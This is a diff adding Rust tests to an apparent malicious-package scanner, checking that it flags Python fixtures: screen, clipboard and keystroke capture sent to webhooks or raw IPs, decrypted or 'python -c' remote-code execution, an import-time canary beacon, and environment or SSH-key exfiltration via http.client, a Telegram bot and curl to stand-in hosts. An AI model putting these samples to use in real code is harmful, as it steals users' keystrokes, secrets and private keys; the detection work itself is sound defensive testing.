@@ -875,3 +875,104 @@ fn reversing_a_list_is_not_reading_text_backwards() {
         assert_eq!(level(&py2, "exec-decoded"), Some(Severity::Critical), "{py2}");
     }
 }
+
+/// Spyware: the screen, the clipboard or keystrokes captured in a file that
+/// sends to an address the code wrote (a webhook, a raw IP): critical when
+/// the send runs at load, high on a caller's request. A screenshot tool
+/// uploading where its caller says, or a hotkey helper that sends nothing,
+/// is not. Written for the test.
+#[test]
+fn the_screen_clipboard_or_keys_sent_to_an_address_in_the_code_is_spyware() {
+    let verdict = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/m.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "surveillance-sent").map(|f| (f.severity, f.because.clone()))
+    };
+    let shot = "import os, requests\nfrom PIL import ImageGrab\np = os.path.join(os.getcwd(), 's.png')\n\
+                ImageGrab.grab().save(p)\n\
+                requests.post('https://discord.com/api/webhooks/1/x', files={'f': open(p, 'rb')})\n";
+    let (sev, because) = verdict(shot).expect("screen");
+    assert_eq!(sev, Severity::Critical);
+    assert!(because.iter().any(|b| b.contains("captures: `PIL.ImageGrab.grab` at line 4")), "{because:?}");
+    let clip = "import pyperclip, requests\ndef watch():\n    \
+                requests.post('http://198.51.100.4/c', data={'c': pyperclip.paste()})\n";
+    assert_eq!(verdict(clip).map(|v| v.0), Some(Severity::High));
+    let keys = "from pynput import keyboard\nimport requests\nlog = []\ndef on_press(key):\n    \
+                log.append(str(key))\n    \
+                requests.post('https://webhook.site/abc', data={'k': ''.join(log)})\n\
+                with keyboard.Listener(on_press=on_press) as l:\n    l.join()\n";
+    assert_eq!(verdict(keys).map(|v| v.0), Some(Severity::Critical));
+    // Uploaded where the caller says; a hotkey helper that sends nothing.
+    let tool = "import requests\nfrom PIL import ImageGrab\ndef report(url, path):\n    \
+                ImageGrab.grab().save(path)\n    requests.post(url, files={'f': open(path, 'rb')})\n";
+    assert!(verdict(tool).is_none());
+    let hotkeys = "import keyboard\nkeyboard.on_press(lambda e: print(e.name))\n";
+    assert!(verdict(hotkeys).is_none());
+}
+
+/// Hidden code is hidden however it was hidden: decrypted (Fernet, AES) as
+/// well as decoded; and code handed to another interpreter with `-c` is
+/// read like the file's own. Written for the test.
+#[test]
+fn decrypted_payloads_and_code_given_to_python_dash_c_are_read() {
+    let rules = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.iter().map(|f| (f.rule, f.severity, f.file.clone())).collect::<Vec<_>>()
+    };
+    let fernet = "from cryptography.fernet import Fernet\nexec(Fernet(KEY).decrypt(BLOB))\n";
+    assert!(rules("setup.py", fernet).iter().any(|(r, s, _)| *r == "exec-decoded" && *s == Severity::Critical));
+    for start in [
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \
+         \"import urllib.request; exec(urllib.request.urlopen('http://203.0.113.5/p').read())\"])\n",
+        "import os\nos.system('python -c \"import urllib.request; \
+         exec(urllib.request.urlopen(\\'http://203.0.113.5/p\\').read())\"')\n",
+    ] {
+        let found = rules("pkg/__init__.py", start);
+        let hit =
+            found.iter().find(|(r, _, _)| *r == "exec-downloaded").unwrap_or_else(|| panic!("{start}\n{found:#?}"));
+        assert_eq!((hit.1, hit.2.as_str()), (Severity::Critical, "pkg/__init__.py:2 (python -c)"));
+    }
+    // A harmless one-liner stays harmless.
+    let version = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n";
+    assert!(rules("pkg/v.py", version).iter().all(|(_, s, _)| *s < Severity::Medium));
+}
+
+/// Where a send goes may be written where the connection or the bot was
+/// made (`HTTPSConnection("host")`, a bot built with its token), and curl or
+/// wget started as a process send like `requests.post`; the output of
+/// `whoami` says who runs the code. Written for the test.
+#[test]
+fn destinations_in_connections_bots_and_curl_count_as_chosen() {
+    let find = |path: &str, src: &str, rule: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == rule).map(|f| f.severity)
+    };
+    // A canary domain over http.client, with `whoami`, at import.
+    let canary = "import subprocess, platform, http.client\n\
+                  user = subprocess.check_output(['whoami']).decode().strip()\n\
+                  conn = http.client.HTTPConnection('abc123.oastify.com', 80)\n\
+                  conn.request('GET', f'/?u={user}&h={platform.node()}')\n";
+    assert_eq!(find("pkg/__init__.py", canary, "import-beacon"), Some(Severity::High));
+    // The environment through a connection opened to a host in the code.
+    let conn = "import os, json, http.client\ndef sync():\n    \
+                c = http.client.HTTPSConnection('collector.example.invalid')\n    \
+                c.request('POST', '/e', body=json.dumps(dict(os.environ)))\n";
+    assert_eq!(find("pkg/sync.py", conn, "exfiltration"), Some(Severity::Critical));
+    // A chat bot made with a token written in the code receives a key file.
+    let token = format!("{}:AA{}", 712345678, "b".repeat(33));
+    let bot = format!(
+        "import os, telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    \
+         bot.send_message(42, open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
+    );
+    assert_eq!(find("pkg/b.py", &bot, "exfiltration"), Some(Severity::Critical));
+    // The same bot built from a token its caller gives: configured, high.
+    let configured = bot.replace(&format!("'{token}'"), "os.environ['BOT']");
+    assert_eq!(find("pkg/b.py", &configured, "exfiltration"), Some(Severity::High));
+    // curl run at install with the environment in its URL.
+    let curl = "import os, base64, subprocess\nURL = 'http://203.0.113.7:8000'\n\
+                env = base64.b64encode(str(dict(os.environ)).encode()).decode()\n\
+                subprocess.check_output(['curl', f'{URL}/?e={env}'])\n";
+    assert_eq!(find("setup.py", curl, "exfiltration"), Some(Severity::Critical));
+    // curl fetching a file with nothing of the machine's in it: no exfiltration.
+    let fetch = "import subprocess\nsubprocess.run(['curl', '-L', '-o', 'x.tgz', 'https://example.invalid/x.tgz'])\n";
+    assert_eq!(find("setup.py", fetch, "exfiltration"), None);
+}
